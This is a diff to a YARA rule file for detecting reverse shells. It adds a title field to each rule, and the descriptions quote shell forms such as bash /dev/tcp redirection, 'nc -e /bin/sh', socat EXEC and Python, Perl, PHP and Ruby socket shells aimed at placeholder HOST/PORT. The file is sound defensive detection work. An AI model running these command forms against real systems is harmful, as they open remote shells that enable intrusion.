@@ -7,6 +7,7 @@
 rule RevShell_Bash_DevTcp : reverse_shell
 {
     meta:
+        title = "bash /dev/tcp reverse shell"
         description = "a shell whose standard input and output are bash's /dev/tcp or /dev/udp pseudo-device (bash -i >& /dev/tcp/HOST/PORT 0>&1, exec N<>/dev/tcp/HOST/PORT with sh <&N >&N)"
         severity = "critical"
         attack = "T1059.004"
@@ -28,6 +29,7 @@ rule RevShell_Bash_DevTcp : reverse_shell
 rule RevShell_Netcat_Exec : reverse_shell
 {
     meta:
+        title = "netcat running a shell (nc -e)"
         description = "netcat or ncat told to run a shell for its peer (nc -e /bin/sh, ncat --exec, nc -c bash)"
         severity = "critical"
         attack = "T1059.004"
@@ -45,6 +47,7 @@ rule RevShell_Netcat_Exec : reverse_shell
 rule RevShell_Mkfifo_Pipe : reverse_shell
 {
     meta:
+        title = "named-pipe reverse shell (mkfifo | nc)"
         description = "a named-pipe reverse shell: mkfifo or mknod p, the pipe read by a shell whose output goes to nc, ncat, telnet or openssl s_client"
         severity = "critical"
         attack = "T1059.004"
@@ -67,6 +70,7 @@ rule RevShell_Mkfifo_Pipe : reverse_shell
 rule RevShell_Socat_Exec : reverse_shell
 {
     meta:
+        title = "socat reverse shell"
         description = "socat joining a network connection to a shell (socat TCP:HOST:PORT EXEC:'bash -li',pty,stderr,setsid)"
         severity = "critical"
         attack = "T1059.004"
@@ -84,6 +88,7 @@ rule RevShell_Socat_Exec : reverse_shell
 rule RevShell_Python_Socket : reverse_shell
 {
     meta:
+        title = "Python reverse shell"
         description = "a Python reverse shell: a socket connected out whose file descriptors are dup2'd onto 0, 1 and 2 before a shell or pty.spawn"
         severity = "critical"
         attack = "T1059.006"
@@ -105,6 +110,7 @@ rule RevShell_Python_Socket : reverse_shell
 rule RevShell_Perl_Socket : reverse_shell
 {
     meta:
+        title = "Perl reverse shell"
         description = "a Perl reverse shell: a socket connected out (socket/connect or IO::Socket::INET), STDIN/STDOUT/STDERR reopened onto it, then a shell or a command loop"
         severity = "critical"
         attack = "T1059"
@@ -130,6 +136,7 @@ rule RevShell_Perl_Socket : reverse_shell
 rule RevShell_PHP_Socket : reverse_shell
 {
     meta:
+        title = "PHP reverse shell"
         description = "a PHP reverse shell: fsockopen or stream_socket_client followed by a shell on the socket's descriptor (exec(\"/bin/sh -i <&3 >&3 2>&3\"), proc_open with the socket as pipes)"
         severity = "critical"
         attack = "T1059"
@@ -150,6 +157,7 @@ rule RevShell_PHP_Socket : reverse_shell
 rule RevShell_Ruby_Socket : reverse_shell
 {
     meta:
+        title = "Ruby reverse shell"
         description = "a Ruby reverse shell: TCPSocket opened to a host whose descriptor feeds a shell (exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f), IO.popen on the socket)"
         severity = "critical"
         attack = "T1059"
@@ -170,6 +178,7 @@ rule RevShell_Ruby_Socket : reverse_shell
 rule RevShell_Awk_Inet : reverse_shell
 {
     meta:
+        title = "gawk /inet/tcp reverse shell"
         description = "a gawk reverse shell over its /inet/tcp special file with a remote host and port"
         severity = "high"
         attack = "T1059.004"
